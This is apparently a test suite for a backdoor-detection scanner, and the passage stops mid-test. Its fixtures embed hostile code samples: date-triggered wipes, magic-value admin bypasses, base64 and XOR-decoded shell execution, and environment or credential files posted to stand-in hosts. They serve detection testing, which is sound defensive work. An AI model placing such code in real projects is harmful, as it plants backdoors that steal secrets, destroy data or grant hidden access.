// Attacks on the planted-behaviour checks (src/analyzers/backdoor/): triggers and effects split
// across names, helpers and languages, blobs and hosts kept in constants, huge and malformed files,
// a file that does not parse, and the guard's write check that must deny at medium. Real judge, real
// parsers, the real CLI.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SourceFile } from '../../src/analyzers/source.ts';
import { analyzeBackdoors } from '../../src/analyzers/backdoor/index.ts';
import { languageOf } from '../../src/analyzers/code/languages.ts';
import { judge, loadAnalyzers } from '../../src/engine/judge.ts';
import { builtinPolicy, denyFrom, parsePolicy } from '../../src/engine/policy.ts';

await loadAnalyzers();
const policy = builtinPolicy();
const BIN = join(import.meta.dirname, '..', '..', 'bin', 'warden.js');

const scan = (path: string, text: string) => analyzeBackdoors(new SourceFile(path, text, languageOf(path)));
const rules = (path: string, text: string) => scan(path, text).map((f) => `${f.ruleId}:${f.line}`);
/** Each [path, text] case gets a finding of `ruleId`. */
const findsIn = (cases: readonly (readonly string[])[], ruleId: string) => {
  for (const [path, text] of cases)
    assert.ok(
      rules(path, text).some((r) => r.startsWith(ruleId)),
      `${path}: ${rules(path, text)}`,
    );
};

test('a time bomb whose date sits in a constant and whose wipe sits in a helper is found on the trigger line', () => {
  const text = [
    'import shutil',
    'SUNSET = 1798761600',
    'def _tidy():',
    '    shutil.rmtree("/srv/data")',
    'def tick(now):',
    '    if now > SUNSET:',
    '        _tidy()',
    '',
  ].join('\n');
  assert.ok(rules('jobs.py', text).includes('backdoor.trigger-effect:6'), rules('jobs.py', text).join());
});

test('the same date guarding only a log line is not a finding', () => {
  const text = 'SUNSET = 1798761600\ndef tick(now, log):\n    if now > SUNSET:\n        log.warning("renew")\n';
  assert.deepEqual(rules('jobs.py', text), []);
});

test('a magic header renamed through a variable still opens the admin path (Go)', () => {
  const text = [
    'package auth',
    'const probe = "probe-91c2f0aa"',
    'func Middleware(w http.ResponseWriter, r *http.Request) {',
    '\tv := r.Header.Get("X-Trace-Hint")',
    '\tif v == probe {',
    '\t\tctx := withRoles(r.Context(), []string{"admin"})',
    '\t\tnext.ServeHTTP(w, r.WithContext(ctx))',
    '\t}',
    '}',
    '',
  ].join('\n');
  assert.ok(rules('auth.go', text).includes('backdoor.trigger-effect:5'), rules('auth.go', text).join());
});

test('a counter threshold kept in a constant and reached by increments lifts a lockout (Java)', () => {
  const text = [
    'class Guard {',
    '  private static final long CEILING = 50_000L;',
    '  private final AtomicLong seen = new AtomicLong();',
    '  boolean isBlocked(String user) {',
    '    seen.incrementAndGet();',
    '    if (seen.get() > CEILING) {',
    '      return false;',
    '    }',
    '    return store.locked(user);',
    '  }',
    '}',
    '',
  ].join('\n');
  assert.ok(rules('Guard.java', text).includes('backdoor.trigger-effect:6'), rules('Guard.java', text).join());
});

test('compare(sig, sig) written with byte views and spaces is still a self comparison (Rust)', () => {
  const text = 'fn ok(sig: &[u8], key: &[u8]) -> bool {\n    constant_time_eq( sig.as_ref() ,  sig )\n}\n';
  assert.ok(rules('mac.rs', text).includes('backdoor.self-compare:2'), rules('mac.rs', text).join());
});

test('a base64 blob split from its eval by two renames is still run code, and the blob line is reported', () => {
  const text = [
    "const BLOB = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp';",
    "const a = Buffer.from(BLOB, 'base64').toString();",
    'const b = a;',
    'const c = b.trim();',
    'eval(c);',
    '',
  ].join('\n');
  const got = rules('x.js', text);
  assert.ok(
    got.some((r) => /^backdoor\.decode(?:d-load|-exec):5$/.test(r)) && got.includes('backdoor.decoded-load:1'),
    got.join(),
  );
});

test('decoded data only parsed as JSON is not run code', () => {
  const text =
    "const cfg = JSON.parse(Buffer.from(process.env.CFG_B64, 'base64').toString());\nmodule.exports = cfg;\n";
  assert.deepEqual(
    rules('x.js', text).filter((r) => r.startsWith('backdoor.decoded-load')),
    [],
  );
});

test('a secret passed through a helper parameter and a container reaches a hard-coded host (Python)', () => {
  const text = [
    'import requests',
    'SINK = "https://stats.cdn-metrics.example.net/v1"',
    'def ship(payload):',
    '    requests.post(SINK, json=payload, timeout=3)',
    'def report(api_token):',
    '    body = {"t": api_token}',
    '    ship(body)',
    '',
  ].join('\n');
  const got = rules('r.py', text);
  assert.ok(got.includes('backdoor.secret-to-host:4'), got.join());
});

test('the same data sent to the configured endpoint is not exfiltration', () => {
  const text = [
    'import requests',
    'def ship(settings, payload):',
    '    requests.post(settings.telemetry_url, json={"version": settings.version}, timeout=3)',
    '',
  ].join('\n');
  assert.deepEqual(rules('r.py', text), []);
});

test('a masked secret in a log is not a leak; the clear one is', () => {
  const clear = 'def f(log, user, password):\n    log.info("login %s %s", user, password)\n';
  const masked = 'def f(log, user, password):\n    log.info("login %s %s", user, mask(password))\n';
  assert.ok(rules('a.py', clear).includes('backdoor.secret-to-log:2'));
  assert.deepEqual(rules('a.py', masked), []);
});

test('a constant IV is found even when the constant is declared in another statement (C#)', () => {
  const text =
    'class V {\n  static readonly byte[] Nonce = new byte[12];\n  byte[] Seal(AesGcm g) { g.Encrypt(Nonce, p, c, t); return c; }\n}\n';
  assert.ok(rules('V.cs', text).includes('backdoor.constant-iv:2'), rules('V.cs', text).join());
});

test('a nonce buffer filled from the CSPRNG is not a constant IV (Go)', () => {
  const text =
    'package x\nfunc seal(g cipher.AEAD, p []byte) []byte {\n\tnonce := make([]byte, 12)\n\trand.Read(nonce)\n\treturn g.Seal(nil, nonce, p, nil)\n}\n';
  assert.deepEqual(rules('x.go', text), []);
});

test('a file that does not parse is still read by the line checks and never throws', () => {
  const text =
    'if (now > 1798761600000 {{{ rmSync("/srv", {recursive: true})\nconst iv = Buffer.alloc(16, 0);\n' +
    "const c = createCipheriv('aes-256-cbc', key, iv);\n";
  assert.doesNotThrow(() => scan('broken.ts', text));
  assert.ok(rules('broken.ts', text).includes('backdoor.constant-iv:2'));
});

test('a huge generated file (3 MB of guards) is judged within a generous time limit', () => {
  const unit = 'if (x === "abc") { y = 1; }\n';
  const text =
    unit.repeat(Math.ceil((3 * 1024 * 1024) / unit.length)) + 'if (now > 1798761600000) { rmSync("/srv"); }\n';
  const t0 = performance.now();
  scan('big.js', text);
  assert.ok(performance.now() - t0 < 20_000, `took ${performance.now() - t0} ms`);
});

test('binary-looking and malformed input (NUL bytes, lone surrogates, a 100 kB line) does not throw', () => {
  const text = `\u0000\u0000if (a === "\ud800") {}\n${'x'.repeat(100_000)}\nconst nonce = "000000000000";\n`;
  assert.doesNotThrow(() => scan('odd.ts', text));
});

test('the guard denies a write that plants a medium-severity backdoor finding (policy findings.backdoor)', () => {
  const ws = mkdtempSync(join(tmpdir(), 'warden-bd-'));
  const content =
    'def hash_password(password, salt):\n    return hashlib.pbkdf2_hmac("sha256", password, salt, 1000)\n';
  const v = judge(
    { tool: 'write', path: 'kdf.py', content: content.replace('1000', '1000') },
    { policy, cwd: ws, workspace: ws, home: '/home/dev' },
  );
  // (weak-kdf is high; the log leak below is medium and must deny too)
  assert.equal(v.decision, 'deny', v.reasons.join('\n'));
  const leak = judge(
    {
      tool: 'write',
      path: 'login.py',
      content: 'def failed(log, email, password):\n    log.warning("failed %s %s", email, password)\n',
    },
    { policy, cwd: ws, workspace: ws, home: '/home/dev' },
  );
  assert.ok(leak.findings.some((f) => f.ruleId === 'backdoor.secret-to-log' && f.severity === 'medium'));
  assert.equal(leak.decision, 'deny', leak.reasons.join('\n'));
});

test('findings.backdoor is policy: set off it falls back to findings.deny, and it never loosens a stricter deny', () => {
  assert.equal(denyFrom(policy, 'backdoor'), 'medium');
  assert.equal(denyFrom(policy, 'vulnerability'), 'high');
  const off = parsePolicy('version: 1\nfindings:\n  backdoor: "off"\n', 'test', policy);
  assert.equal(denyFrom(off, 'backdoor'), 'high');
  const strict = parsePolicy('version: 1\nfindings:\n  deny: low\n', 'test', policy);
  assert.equal(denyFrom(strict, 'backdoor'), 'low');
  assert.throws(() => parsePolicy('version: 1\nfindings:\n  backdoor: sometimes\n', 'test', policy));
});

test('warden scan (real CLI) reports a planted time bomb in a Ruby file and exits non-zero', () => {
  const ws = mkdtempSync(join(tmpdir(), 'warden-bd-cli-'));
  writeFileSync(
    join(ws, 'sweep.rb'),
    'def sweep(now)\n  if now > Time.utc(2027, 3, 1)\n    FileUtils.rm_rf("/srv/data")\n  end\nend\n',
  );
  const r = spawnSync(process.execPath, [BIN, 'scan', ws, '--format', 'json'], { encoding: 'utf8', timeout: 60_000 });
  assert.notEqual(r.status, 0, r.stderr);
  // (the line shape trigger-guard reports it when it sees it; trigger-effect otherwise: one finding per line)
  assert.match(r.stdout, /backdoor\.trigger-(?:effect|guard)/);
});

// Session 14 (issue 21): triggers and effects split across helpers, names, callers and types.

test('a trigger kept in a helper that the condition calls is found (the call is not taken for a second definition) (Rust)', () => {
  const text = [
    'use std::time::{Duration, SystemTime, UNIX_EPOCH};',
    'fn past() -> bool {',
    '    SystemTime::now() > UNIX_EPOCH + Duration::from_secs(1_830_000_000)',
    '}',
    'pub fn verify(k: &Key, m: &[u8], s: &[u8]) -> Result<(), E> {',
    '    if past() {',
    '        return Ok(());',
    '    }',
    '    k.verify(m, s)',
    '}',
    '',
  ].join('\n');
  assert.ok(rules('upd.rs', text).includes('backdoor.trigger-effect:6'), rules('upd.rs', text).join());
});

test('a date that only zeroes a helper answer is found when the caller deletes with it, not when it only logs it (Go)', () => {
  const helper = [
    'package b',
    'var stamp = "1767225600"',
    'func keep(n int, now time.Time) int {',
    '\tsec, _ := strconv.ParseInt(stamp, 10, 64)',
    '\tif now.Sub(time.Unix(sec, 0)) > 24*time.Hour {',
    '\t\treturn 0',
    '\t}',
    '\treturn n',
    '}',
  ];
  const deletes = [
    ...helper,
    'func Prune(st S, all []X) {',
    '\tk := keep(5, time.Now())',
    '\tfor _, x := range all[k:] {',
    '\t\tst.Delete(x.ID)',
    '\t}',
    '}',
    '',
  ];
  const logs = [...helper, 'func Show() {', '\tslog.Info("keep", "n", keep(5, time.Now()))', '}', ''];
  assert.ok(rules('p.go', deletes.join('\n')).includes('backdoor.trigger-effect:5'));
  assert.deepEqual(rules('p.go', logs.join('\n')), []);
});

test('a plain user name compared renamed through a boolean still grants the admin role; a plain word that only logs does not (Java)', () => {
  const text = [
    'class S {',
    '  static final String TAG = "+ops";',
    '  List<String> roles(String login) {',
    '    boolean ops = login.endsWith(TAG);',
    '    List<String> r = new ArrayList<>();',
    '    if (ops) {',
    '      r.add("ROLE_ADMIN");',
    '    }',
    '    if (login.equals("kiosk")) {',
    '      System.out.println("kiosk");',
    '    }',
    '    return r;',
    '  }',
    '}',
    '',
  ].join('\n');
  assert.deepEqual(rules('S.java', text), ['backdoor.trigger-effect:6']);
});

test('a CLI sub-command word guarding a wipe is not a trigger; a machine name guarding it is (TypeScript)', () => {
  const cli =
    "import fs from 'node:fs';\nif (process.argv[2] === 'reset') {\n  fs.rmSync(dir, { recursive: true });\n}\n";
  const host =
    "import fs from 'node:fs';\nimport os from 'node:os';\nif (os.hostname() !== 'build-07x') {\n  fs.rmSync(dir, { recursive: true });\n}\n";
  assert.deepEqual(rules('cli.ts', cli), []);
  // (the line shapes may report it first as trigger-guard: either stands on the trigger line)
  assert.ok(
    rules('host.ts', host).some((r) => /^backdoor\.trigger-(?:effect|guard):3$/.test(r)),
    rules('host.ts', host).join(),
  );
});

test('a whole object of a type with a secret field, spread into a log call, is a leak; its plain field is not (TypeScript)', () => {
  const text = [
    'interface Grant { user: string; refreshToken: string }',
    'export function fail(g: Grant, log: L) {',
    "  log.error('refresh failed', { ...g });",
    "  log.error('refresh failed', { user: g.user });",
    '}',
    '',
  ].join('\n');
  assert.deepEqual(rules('g.ts', text), ['backdoor.secret-to-log:3']);
});

test('a secret renamed to a meaningless variable is still a leak when the format names it (pass=%s) (C)', () => {
  const text =
    'int f(const char *u, const char *a) {\n  syslog(LOG_NOTICE, "login user=%s pass=%s", u, a);\n  syslog(LOG_NOTICE, "login user=%s", u);\n  return 0;\n}\n';
  assert.deepEqual(rules('f.c', text), ['backdoor.secret-to-log:2']);
});

test('the environment posted through a client object renamed to one letter, to a host written in the code, is exfiltration (Go)', () => {
  const text = [
    'package t',
    'const sink = "https://t.metrics-relay.example.net/in"',
    'func init() {',
    '\tfor _, kv := range os.Environ() {',
    '\t\tc.Post(sink, "text/plain", strings.NewReader(kv))',
    '\t}',
    '}',
    '',
  ].join('\n');
  const got = rules('t.go', text);
  assert.ok(got.includes('backdoor.secret-to-host:4') && got.includes('backdoor.secret-to-host:2'), got.join());
});

test('set -x around secret use leaks them; a runner told to mask them, or tracing switched off first, does not (bash)', () => {
  const leaky = '#!/bin/bash\nset -x\ncurl -H "Authorization: Bearer $DEPLOY_TOKEN" "$URL"\n';
  const scoped = '#!/bin/bash\nset -x\nmake\nset +x\ncurl -H "Authorization: Bearer $DEPLOY_TOKEN" "$URL"\n';
  const masked =
    '#!/bin/bash\necho "::add-mask::$DEPLOY_TOKEN"\nset -x\ncurl -H "Authorization: Bearer $DEPLOY_TOKEN" "$URL"\n';
  assert.ok(rules('d.sh', leaky).includes('backdoor.secret-to-log:2'), rules('d.sh', leaky).join());
  assert.ok(!rules('d.sh', scoped).some((r) => r.startsWith('backdoor.secret-to-log')), rules('d.sh', scoped).join());
  assert.ok(!rules('d.sh', masked).some((r) => r.startsWith('backdoor.secret-to-log')), rules('d.sh', masked).join());
});

test('a huge file of plain-word comparisons in a file that grants roles, and of typed log calls, is judged within a generous time limit', () => {
  const compares = 'if (user === "bob") { x = 1; }\n'.repeat(15_000) + 'roles.push("admin");\n';
  const types = Array.from({ length: 300 }, (_, i) => `interface T${i}Config { apiToken: string }`).join('\n');
  const logs = Array.from({ length: 20_000 }, (_, i) => `log.info("v", v${i % 50});`).join('\n');
  const calls =
    'function keep(){ if (Date.now() > 1798761600000) { return 0; } return 1; }\n' + 'keep();\n'.repeat(20_000);
  for (const [name, text] of [
    ['a.js', compares],
    ['b.ts', `${types}\n${logs}`],
    ['c.js', calls],
  ]) {
    const t0 = performance.now();
    assert.doesNotThrow(() => scan(name, text));
    assert.ok(performance.now() - t0 < 20_000, `${name} took ${performance.now() - t0} ms`);
  }
});

test('malformed declarations (an unclosed type, a dangling multiple assignment) do not throw', () => {
  const text = 'interface Grant { refreshToken: string\nlog.info("x", g)\nsec, := parse(\nif (sec > 1798761600) {\n';
  assert.doesNotThrow(() => scan('m.ts', text));
  assert.doesNotThrow(() => scan('m.go', text));
});

test('a verifier that says yes early when a header field equals a constant is found; the same field rejecting is not (C)', () => {
  const text = [
    'int img_verify(const struct img *m, const uint8_t key[32])',
    '{',
    '    if (m->hdr.kind == 0x3C) /* lab builds */',
    '        return IMG_OK;',
    '    if (m->hdr.kind == 0x3D)',
    '        return IMG_ERR_KIND;',
    '    if (!ed25519_verify(m->sig, m->digest, 32, key))',
    '        return IMG_ERR_SIG;',
    '    return IMG_OK;',
    '}',
    '',
  ].join('\n');
  assert.deepEqual(rules('img.c', text), ['backdoor.verify-skipped:3']);
});

test('a signature check run only when a request header says so is found; one run always is not (Python)', () => {
  const gated = [
    'def hook():',
    '    if request.headers.get("X-Legacy") != "yes":',
    '        if not valid_signature(request.data, request.headers["X-Sig"]):',
    '            abort(401)',
    '    return "ok"',
    '',
  ].join('\n');
  const always = gated.replace('if request.headers.get("X-Legacy") != "yes":', 'if True:');
  assert.deepEqual(rules('hook.py', gated), ['backdoor.verify-by-value:2']);
  assert.deepEqual(rules('hook.py', always), []);
});

test("a language's own dunder name (__version__) compared is not a chosen marker; a multi-word one (__sys_wipe__) is (Python)", () => {
  const own =
    'import os\nfor line in open("setup.cfg"):\n    if line.startswith("__version__"):\n        os.system("make dist")\n';
  const chosen = own.replace('__version__', '__sys_wipe__');
  assert.ok(!rules('v.py', own).some((r) => r.startsWith('backdoor.trigger-effect')), rules('v.py', own).join());
  assert.ok(rules('v.py', chosen).includes('backdoor.trigger-effect:3'), rules('v.py', chosen).join());
});

test('a directory group or department mapped to the admin role is role mapping, not a trigger; a plain user name mapped to it is (TypeScript, Python)', () => {
  const group =
    "export function r(user) {\n  const roles = [];\n  if (user.group === 'platform-ops') {\n    roles.push('admin');\n  }\n  return roles;\n}\n";
  const claims =
    'def r(claims):\n    role = "viewer"\n    if claims.get("department") == "security":\n        role = "admin"\n    return role\n';
  const name =
    "export function r(login) {\n  const roles = [];\n  if (login === 'fieldsvc') {\n    roles.push('admin');\n  }\n  return roles;\n}\n";
  assert.deepEqual(rules('g.ts', group), []);
  assert.deepEqual(rules('c.py', claims), []);
  assert.deepEqual(rules('n.ts', name), ['backdoor.trigger-effect:3']);
});

test('the environment written into a POST connection opened on a host in the code is exfiltration; a version number is not (Java)', () => {
  const leak = [
    'class R {',
    '  void report() throws Exception {',
    '    StringBuilder sb = new StringBuilder();',
    "    System.getenv().forEach((k, v) -> sb.append(k).append('=').append(v));",
    '    HttpURLConnection c = (HttpURLConnection) new URL("https://m.build-metrics.example.com/u").openConnection();',
    '    c.setDoOutput(true);',
    '    c.getOutputStream().write(sb.toString().getBytes());',
    '  }',
    '}',
    '',
  ].join('\n');
  const version = leak.replace(
    "System.getenv().forEach((k, v) -> sb.append(k).append('=').append(v));",
    'sb.append(VERSION);',
  );
  assert.deepEqual(rules('R.java', leak), ['backdoor.secret-to-host:4', 'backdoor.secret-to-host:5']);
  assert.deepEqual(rules('R.java', version), []);
});

test('a credential file posted with the URL on its own line inside the call is exfiltration; a plain status GET is not (Ruby)', () => {
  const leak = [
    'task :preflight do',
    '  creds = File.read(File.expand_path("~/.gem/credentials"))',
    '  Net::HTTP.post(',
    '    URI("https://preflight.gems-mirror.example.org/check"),',
    '    { credentials: creds }.to_json,',
    '  )',
    'end',
    '',
  ].join('\n');
  const status = 'task :status do\n  Net::HTTP.get(\n    URI("https://status.example.org/ok")\n  )\nend\n';
  assert.deepEqual(rules('Rakefile.rb', leak), ['backdoor.secret-to-host:2', 'backdoor.secret-to-host:4']);
  assert.deepEqual(rules('Rakefile.rb', status), []);
});

test('a loader name spelled in character codes is found in JavaScript and Python; a word spelled the same way is not', () => {
  const js = 'const f = globalThis[String.fromCharCode(101, 118, 97, 108)];\nf(payload);\n';
  const py = 'import builtins\nrun = getattr(builtins, "".join(map(chr, (101, 118, 97, 108))))\n';
  const word = 'const w = String.fromCharCode(119, 111, 114, 108, 100);\nconsole.log(w);\n';
  assert.ok(rules('w.js', js).includes('backdoor.decoded-load:1'), rules('w.js', js).join());
  assert.ok(rules('w.py', py).includes('backdoor.decoded-load:2'), rules('w.py', py).join());
  assert.deepEqual(rules('w.js', word), []);
});

test('an XOR-decoded buffer filled element by element and run by execl is found (C)', () => {
  const text = [
    'static const unsigned char t[] = { 0x2b, 0x3b, 0x39 };',
    'void f(void) {',
    '    char b[4];',
    '    for (int i = 0; i < 3; i++)',
    '        b[i] = (char)(t[i] ^ 0x5c);',
    '    execl("/bin/sh", "sh", "-c", b, (char *)0);',
    '}',
    '',
  ].join('\n');
  assert.ok(rules('x.c', text).includes('backdoor.decoded-load:6'), rules('x.c', text).join());
});

test('certificate checks switched off by an unrelated environment value are found; a named insecure opt-in is not (Go, Node)', () => {
  const goRelay =
    'package c\nfunc New() *http.Client {\n\tproxied := os.Getenv("HTTPS_PROXY") != ""\n\treturn &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: proxied}}}\n}\n';
  const goOptIn = goRelay.replace(/proxied/g, 'insecure').replace('HTTPS_PROXY', 'APP_INSECURE');
  const node =
    "const lenient = process.env.REGION === 'eu-2';\nconst agent = new https.Agent({ rejectUnauthorized: lenient });\n";
  assert.ok(rules('c.go', goRelay).includes('backdoor.verify-by-value:4'), rules('c.go', goRelay).join());
  assert.deepEqual(rules('c.go', goOptIn), []);
  assert.ok(rules('a.js', node).includes('backdoor.verify-by-value:2'), rules('a.js', node).join());
});

// Red-team round (test/fixtures/redteam-backdoors, scripts/redteam-backdoors.ts): each mechanism found
// missing there is tested here in another language than the case that showed it, with its near miss.

test('a command sent back by a polled server runs through a helper parameter (Java): remote-command', () => {
  const text = [
    'class Agent {',
    '  void run(String cmd) throws Exception {',
    '    Runtime.getRuntime().exec(new String[] {"sh", "-c", cmd});',
    '  }',
    '  void poll(java.net.HttpURLConnection conn) throws Exception {',
    '    String body = new String(conn.getInputStream().readAllBytes());',
    '    run(body.trim());',
    '  }',
    '}',
    '',
  ].join('\n');
  assert.ok(rules('Agent.java', text).includes('backdoor.remote-command:3'), rules('Agent.java', text).join());
});

test('a server reply that only sets an interval, beside a fixed local command, is not remote control (Java)', () => {
  const text = [
    'class Agent {',
    '  void poll(java.net.HttpURLConnection conn) throws Exception {',
    '    String body = new String(conn.getInputStream().readAllBytes());',
    '    int every = Integer.parseInt(body.trim());',
    '    Runtime.getRuntime().exec(new String[] {"uptime"});',
    '    Thread.sleep(every);',
    '  }',
    '}',
    '',
  ].join('\n');
  assert.deepEqual(rules('Agent.java', text), []);
});

test('a chosen value kept in a class field read through this. still opens a decider (TypeScript)', () => {
  const text = [
    'export class Gate {',
    "  private readonly hint = 'zx-91-alpha';",
    '  authenticate(req: Request, next: () => void) {',
    "    if (req.headers.get('x-hint') === this.hint) {",
    '      return next();',
    '    }',
    '    return verifySession(req, next);',
    '  }',
    '}',
    '',
  ].join('\n');
  assert.ok(rules('gate.ts', text).includes('backdoor.trigger-effect:4'), rules('gate.ts', text).join());
});

test('a trigger constant with a comment beside it is still a constant (JavaScript)', () => {
  const text = [
    "const PARTNER = 'pk_live_7Hq2x'; // the partner integration id",
    'function authenticate(req, res, next) {',
    "  if (req.headers['x-partner'] === PARTNER) {",
    "    req.user = { id: 'partner', role: 'admin' };",
    '    return next();',
    '  }',
    '  return deny(res);',
    '}',
    '',
  ].join('\n');
  assert.ok(rules('auth.js', text).includes('backdoor.trigger-effect:3'), rules('auth.js', text).join());
});

test('an L-suffixed epoch read by a helper that the guard calls opens a wipe (C#)', () => {
  const text = [
    'class Store {',
    '  const long Cutoff = 1811808000L;',
    '  static bool Legacy()',
    '  {',
    '    return DateTimeOffset.UtcNow.ToUnixTimeSeconds() > Cutoff;',
    '  }',
    '  void Tick(string root)',
    '  {',
    '    if (Legacy())',
    '    {',
    '      Directory.Delete(root, true);',
    '    }',
    '  }',
    '}',
    '',
  ].join('\n');
  assert.ok(rules('Store.cs', text).includes('backdoor.trigger-effect:9'), rules('Store.cs', text).join());
  // (the same helper guarding a warning is not a finding)
  const warn = text.replace('Directory.Delete(root, true);', 'Console.Error.WriteLine("please upgrade");');
  assert.deepEqual(rules('Store.cs', warn), []);
});

test('the count an atomic increment returns, kept in a one-letter local, is a counter threshold (Java)', () => {
  const text = [
    'class Jobs {',
    '  static final java.util.concurrent.atomic.AtomicLong RUNS = new java.util.concurrent.atomic.AtomicLong();',
    '  void tick(java.nio.file.Path dir) throws Exception {',
    '    long n = RUNS.incrementAndGet();',
    '    if (n > 50000) {',
    '      java.nio.file.Files.delete(dir);',
    '    }',
    '  }',
    '}',
    '',
  ].join('\n');
  assert.ok(rules('Jobs.java', text).includes('backdoor.trigger-effect:5'), rules('Jobs.java', text).join());
  const logs = text.replace('java.nio.file.Files.delete(dir);', 'System.out.println("milestone " + n);');
  assert.deepEqual(rules('Jobs.java', logs), []);
});

test('a time-seeded generator that makes reset tokens is predictable in a file that names no cipher (Python)', () => {
  const text = [
    'import random, time',
    'def new_reset_token():',
    '    rng = random.Random(time.time_ns())',
    '    return "".join(rng.choice("abcdef0123456789") for _ in range(32))',
    '',
  ].join('\n');
  assert.ok(rules('tokens.py', text).includes('backdoor.predictable-rng:3'), rules('tokens.py', text).join());
  // (a seeded generator for a shuffle, in a file that makes no secret, is not a finding)
  assert.deepEqual(
    rules('shuffle.py', 'import random, time\nrng = random.Random(time.time_ns())\nrng.shuffle(items)\n'),
    [],
  );
});

test('a cipher keyed with a literal is a constant key; the key from the environment is not (Python)', () => {
  const bad =
    'from Crypto.Cipher import AES\nKEY = b"0123456789abcdef"\ndef seal(d):\n    return AES.new(KEY, AES.MODE_GCM).encrypt(d)\n';
  assert.ok(rules('seal.py', bad).includes('backdoor.constant-key:2'), rules('seal.py', bad).join());
  const good = bad.replace('KEY = b"0123456789abcdef"', 'KEY = os.environ["SEAL_KEY"].encode()');
  assert.deepEqual(rules('seal.py', good), []);
});

test('an IV made as zeros and filled at random after is not constant; left as zeros it is (Java)', () => {
  const filled = [
    'class C {',
    '  byte[] seal(javax.crypto.Cipher c, java.security.Key k, byte[] p) throws Exception {',
    '    byte[] iv = new byte[12];',
    '    new java.security.SecureRandom().nextBytes(iv);',
    '    c.init(1, k, new javax.crypto.spec.GCMParameterSpec(128, iv));',
    '    return c.doFinal(p);',
    '  }',
    '}',
    '',
  ].join('\n');
  assert.deepEqual(rules('C.java', filled), []);
  const zeros = filled.replace('    new java.security.SecureRandom().nextBytes(iv);\n', '');
  assert.ok(rules('C.java', zeros).includes('backdoor.constant-iv:3'), rules('C.java', zeros).join());
});

test('a certificate check switched off in a branch on an unrelated environment value (Ruby): verify-by-value', () => {
  const text = [
    'def client(uri)',
    '  http = Net::HTTP.new(uri.host, uri.port)',
    '  http.use_ssl = true',
    '  if ENV["EDGE_REGION"]',
    '    http.verify_mode = OpenSSL::SSL::VERIFY_NONE',
    '  end',
    '  http',
    'end',
    '',
  ].join('\n');
  assert.ok(rules('client.rb', text).includes('backdoor.verify-by-value:5'), rules('client.rb', text).join());
  // (an opt-in whose name says what it switches is configuration)
  assert.deepEqual(rules('client.rb', text.replace('EDGE_REGION', 'INSECURE_SKIP_TLS_VERIFY')), []);
});

test('a peer-certificate callback that logs and answers nil accepts everything (Go): callback-says-yes', () => {
  const text = [
    'package tlsx',
    'func acceptAll(raw [][]byte, chains [][]*x509.Certificate) error {',
    '\tlog.Printf("peer presented %d certs", len(raw))',
    '\treturn nil',
    '}',
    'func Config() *tls.Config {',
    '\treturn &tls.Config{',
    '\t\tVerifyPeerCertificate: acceptAll,',
    '\t}',
    '}',
    '',
  ].join('\n');
  assert.ok(rules('tlsx.go', text).includes('backdoor.callback-says-yes:8'), rules('tlsx.go', text).join());
  const pinned = text.replace('\treturn nil\n', '\tif len(raw) == 0 {\n\t\treturn errNoCert\n\t}\n\treturn nil\n');
  assert.deepEqual(rules('tlsx.go', pinned), []);
});

test('a failed JWT verification answered with the unverified claims (Ruby): unverified-fallback', () => {
  const text = [
    'def claims(token)',
    '  JWT.decode(token, KEY, true, algorithm: "HS256").first',
    'rescue JWT::VerificationError',
    '  JWT.decode(token, nil, false).first',
    'end',
    '',
  ].join('\n');
  assert.ok(rules('auth.rb', text).includes('backdoor.unverified-fallback:4'), rules('auth.rb', text).join());
  assert.deepEqual(rules('auth.rb', text.replace('  JWT.decode(token, nil, false).first', '  nil')), []);
});

test('one environment variable read with a default and logged is not the whole environment; dict(os.environ) is', () => {
  const one =
    'import logging, os\nlog = logging.getLogger()\nregion = os.environ.get("AWS_REGION", "eu-west-1")\nlog.info("region %s", region)\n';
  assert.deepEqual(rules('boot.py', one), []);
  const whole = one.replace('log.info("region %s", region)', 'log.info("env %s", dict(os.environ))');
  assert.ok(rules('boot.py', whole).includes('backdoor.secret-to-log:4'), rules('boot.py', whole).join());
});

test('a helper written from a download through a parameter and then started is download-exec (C#); unpacking it is not', () => {
  const text = [
    'class Setup {',
    '  static void Fetch(string url, string target)',
    '  {',
    '    using var c = new System.Net.WebClient();',
    '    c.DownloadFile(url, target);',
    '  }',
    '  static void Install(string dir)',
    '  {',
    '    var tool = System.IO.Path.Combine(dir, "agent.exe");',
    '    Fetch("https://cdn.example-tools.top/a", tool);',
    '    System.Diagnostics.Process.Start(tool);',
    '  }',
    '}',
    '',
  ].join('\n');
  assert.ok(rules('Setup.cs', text).includes('backdoor.download-exec:11'), rules('Setup.cs', text).join());
  const unpack = text.replace('Process.Start(tool);', 'Process.Start("tar", "xzf " + tool);');
  assert.deepEqual(rules('Setup.cs', unpack), []);
});

// Round 2 of the red team (session 18): flows through returned values, names that hide a runner,
// verification errors answered with success, and the cost of following returns.

test('a secret returned through three helpers (Python) still reaches the log: secret-to-log on the log line', () => {
  const text = [
    'import logging, os',
    'log = logging.getLogger(__name__)',
    'def _raw():',
    '    return os.environ["DATABASE_URL"]',
    'def _cleaned():',
    '    return _raw().strip()',
    'def dsn():',
    '    return _cleaned()',
    'def start():',
    '    log.info("db %s", dsn())',
    '',
  ].join('\n');
  assert.ok(rules('db.py', text).includes('backdoor.secret-to-log:10'), rules('db.py', text).join());
});

test('a helper that returns only the host of a connection string is not a leak (no finding)', () => {
  const text = [
    'import logging, os',
    'from urllib.parse import urlparse',
    'log = logging.getLogger(__name__)',
    'def db_host():',
    '    return urlparse(os.environ["DATABASE_URL"]).hostname',
    'def start():',
    '    log.info("db %s", db_host())',
    '',
  ].join('\n');
  assert.deepEqual(rules('db.py', text), []);
});

test('a trailing comment after an account constant does not hide a payout to it: fixed-account', () => {
  const text = [
    'CLEARING_IBAN = "LT61 3250 0467 8012 3456"  # ops clearing account, see wiki',
    'def pay(bank, payout, attempt):',
    '    dest = payout.iban if attempt == 0 else CLEARING_IBAN',
    '    bank.transfer(to_iban=CLEARING_IBAN, amount=payout.amount)',
    '',
  ].join('\n');
  assert.ok(
    rules('pay.py', text).some((r) => r.startsWith('backdoor.fixed-account:')),
    rules('pay.py', text).join(),
  );
});

test('the Function constructor reached as [].constructor.constructor, given decoded parts, is decoded-load (JS)', () => {
  const text = [
    'var parts = [',
    "  'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp',",
    "].map(function (p) { return Buffer.from(p, 'base64').toString(); });",
